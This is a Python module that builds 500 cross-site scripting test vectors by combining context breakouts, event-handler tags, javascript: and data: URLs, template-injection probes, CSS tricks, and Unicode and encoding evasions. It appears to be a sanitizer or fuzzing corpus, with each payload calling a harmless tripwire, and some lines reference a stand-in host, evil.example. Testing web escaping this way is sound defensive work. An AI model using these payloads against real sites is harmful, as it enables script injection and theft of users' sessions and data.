"""Five hundred texts that would run a program in a page that does not write them as text. All made here, by rule.

`¤` in a pattern is where a vector calls the tripwire, with its own number; `§` is a mark that only markup carries into a page.
"""

from html import escape
from itertools import chain, islice, product
from urllib.parse import quote

COUNT = 500
MARK = "data-trip"
LEAVING = (
    *("", '">', "'>", "--><", "]]>", "</textarea>", "</title>", "</option></select>", "</script>", "</style>"),
    *("</noscript>", "</svg>", "</label>", "`>", "\">'></legend>"),
)
"""How a text leaves the place it was put in."""
RUNNING = (
    *("<script §>¤</script>", "<img § src=x onerror=¤>", "<svg § onload=¤>", "<svg><script §>¤</script></svg>"),
    *("<svg §><animate onbegin=¤ attributeName=x dur=1s>", "<svg><set § onbegin=¤ attributename=x>"),
    *("<details § open ontoggle=¤>", "<video §><source onerror=¤></video>", "<audio § src=x onerror=¤>"),
    *(
        "<body § onload=¤>",
        '<iframe § srcdoc="<script>parent.¤</script>"></iframe>',
        "<iframe § src=javascript:parent.¤></iframe>",
    ),
    *("<object § data=javascript:¤></object>", "<embed § src=javascript:¤>", "<input § autofocus onfocus=¤>"),
    *("<select § autofocus onfocus=¤><option>", "<textarea § autofocus onfocus=¤></textarea>", "<marquee § onstart=¤>"),
    *("<math §><a xlink:href=javascript:¤>x</a></math>", "<form § action=javascript:¤><button>x</button></form>"),
    *("<link § rel=stylesheet href=javascript:¤>", "<base § href=https://evil.example/>"),
    *('<meta § http-equiv=refresh content="0;url=javascript:¤">', "<style §>@import 'https://evil.example/x.css';</style>"),
    *("<p § style=background:url(javascript:¤)>", "<a § href=javascript:¤>x</a>", "<x § tabindex=1 autofocus onfocus=¤>"),
    *(
        "<template § shadowrootmode=open><img src=x onerror=¤></template>",
        "<button § formaction=javascript:¤ form=f>x</button>",
    ),
    *("<math><mtext><table><mglyph><style><!--</style><img § title='--&gt;' src=x onerror=¤>",),
    *("<svg></p><style><a id='</style><img § src=x onerror=¤>'>", "<noscript><p title='</noscript><img § src=x onerror=¤>'>"),
)
"""Markup that runs by itself, or when it is touched; the last of each row are read differently the second time."""
ATTRIBUTES = ("onfocus=¤ autofocus", "onpointerenter=¤", "onanimationstart=¤", "style=x:expression(¤)", "accesskey=x onclick=¤")
QUOTES = ('"', "'", "`", "", "&quot;")
ADDRESSES = (
    *("javascript:¤", "JaVaScRiPt:¤", "java\tscript:¤", "javascript&colon;¤", "\N{NO-BREAK SPACE}javascript:¤", "vbscript:¤"),
    *("data:text/html,<script §>¤</script>", "data:text/html;base64,PHNjcmlwdD4=", "//evil.example/¤", "\\\\evil.example\\¤"),
    *(
        "javascript://%0a¤",
        "view-source:javascript:¤",
        "jar:javascript:¤!/",
        "blob:null/¤",
        "https:javascript:¤",
        "&#106;avascript:¤",
    ),
)
IN_SCRIPTS = (
    *(
        "';¤;//",
        '";¤;//',
        "\\';¤;//",
        "`;¤;`",
        "${¤}",
        "*/¤/*",
        "\N{LINE SEPARATOR}¤//",
        "-¤-",
        "]}';¤//",
        "</script ><script §>¤",
    ),
    *("<!--<script>", "\\u003cscript §>¤\\u003c/script>", "\\x3cimg § src=x onerror=¤\\x3e", "'+¤+'", '"}};¤;{{"'),
)
TEMPLATES = (
    *("{{¤}}", "{{constructor.constructor('¤')()}}", "{%if 1%}¤{%endif%}", "{{''.__class__.__mro__}}", "{#¤#}", "#{¤}"),
    *(
        "<%=¤%>",
        "[[¤]]",
        "{{{¤}}}",
        "{radio}",
        "{{radio}}",
        "{radio.other}",
        "{radio}<img § src=x onerror=¤>",
        "{lot}{sum}{nobody}",
    ),
    *(
        "{0.__class__}",
        "%(name)s%s%n¤",
        "%%¤%%",
        "{%trans%}¤{%endtrans%}",
        "{{config}}{{self}}",
        "<{short}script>¤</{short}script>",
    ),
    *(
        "{long}",
        "{short}",
        "{{short|safe}}",
        "{boxes}{numbers}",
        "${{¤}}",
        "{{_(¤)|safe}}",
        "{day:%s}",
        "$¤",
        "¤{¤}",
        "*{¤}",
        "~{¤}",
    ),
)
STYLES = (
    *("}</style><script §>¤</script>", "x;background:url('javascript:¤')", "*{x:expression(¤)}", "@import'javascript:¤';"),
    *("</style><svg § onload=¤>", "\\3c/style\\3e<img § src=x onerror=¤>", "-moz-binding:url(javascript:¤)", "behavior:url(¤)"),
)
SIGNS = (
    *(
        "\N{RIGHT-TO-LEFT OVERRIDE}<script §>¤</script>",
        '\N{RIGHT-TO-LEFT ISOLATE}">¤',
        "<scr\N{ZERO WIDTH JOINER}ipt §>¤</script>",
    ),
    *(
        "\N{ZERO WIDTH NO-BREAK SPACE}<img § src=x onerror=¤>",
        "\N{FULLWIDTH LESS-THAN SIGN}script\N{FULLWIDTH GREATER-THAN SIGN}¤",
    ),
    *(
        "<\N{LATIN SMALL LETTER LONG S}cript §>¤</\N{LATIN SMALL LETTER LONG S}cript>",
        "<\N{LATIN CAPITAL LETTER I WITH DOT ABOVE}mg § src onerror=¤>",
    ),
    *(
        "\N{SINGLE LEFT-POINTING ANGLE QUOTATION MARK}script\N{SINGLE RIGHT-POINTING ANGLE QUOTATION MARK}¤",
        "<img\N{IDEOGRAPHIC SPACE}§ src=x onerror=¤>",
    ),
    *(
        "<img/§/src=x/onerror=¤>",
        "<img\t§\tsrc=x\tonerror=¤>",
        "<IMG § SRC=x OnErRoR=¤>",
        "<img § src=x onerror\t=\t¤>",
        "<<script §>¤//<</script>",
    ),
    *(
        "\N{THUMBS UP SIGN}\N{EMOJI MODIFIER FITZPATRICK TYPE-6}<b §>¤</b>",
        "e\N{COMBINING ACUTE ACCENT}\N{COMBINING LONG SOLIDUS OVERLAY}<i §>¤",
    ),
    *(
        "+ADw-script §+AD4-¤+ADw-/script+AD4-",
        "\N{TAG LATIN SMALL LETTER S}<s §>¤</s>",
        "<img § src=`x`onerror=¤>",
        "\N{PARAGRAPH SEPARATOR}<u §>¤</u>",
    ),
)


def _written_otherwise() -> list[str]:
    """The same markup in the ways that something may decode once too often."""
    ways = (
        escape,
        lambda text: escape(escape(text)),
        quote,
        lambda text: "".join(f"&#{ord(sign)};" for sign in text[:12]) + text[12:],
        lambda text: "".join(f"&#x{ord(sign):x}" for sign in text[:12]) + text[12:],
        lambda text: "".join(f"%u{ord(sign):04x}" for sign in text[:12]) + text[12:],
        lambda text: "".join(f"\\u{ord(sign):04x}" for sign in text[:12]) + text[12:],
        lambda text: text.replace("<", "&lt").replace(">", "&gt"),
    )
    return [way(text) for way, text in product(ways, RUNNING[:4])]


def _patterns() -> list[str]:
    out_of_attributes = [f"{sign} {attribute} § x={sign}" for sign, attribute in product(QUOTES, ATTRIBUTES)]
    single = (ADDRESSES, IN_SCRIPTS, TEMPLATES, STYLES, SIGNS, _written_otherwise(), out_of_attributes)
    out_of_elements = (
        f"{LEAVING[(here + turn) % len(LEAVING)]}{running}"
        for turn in range(len(LEAVING))
        for here, running in enumerate(RUNNING)
    )
    different = dict.fromkeys(chain(*single, out_of_elements))
    return list(islice(different, COUNT))


VECTORS = tuple(pattern.replace("¤", f"tripped({n})").replace("§", MARK) for n, pattern in enumerate(_patterns()))
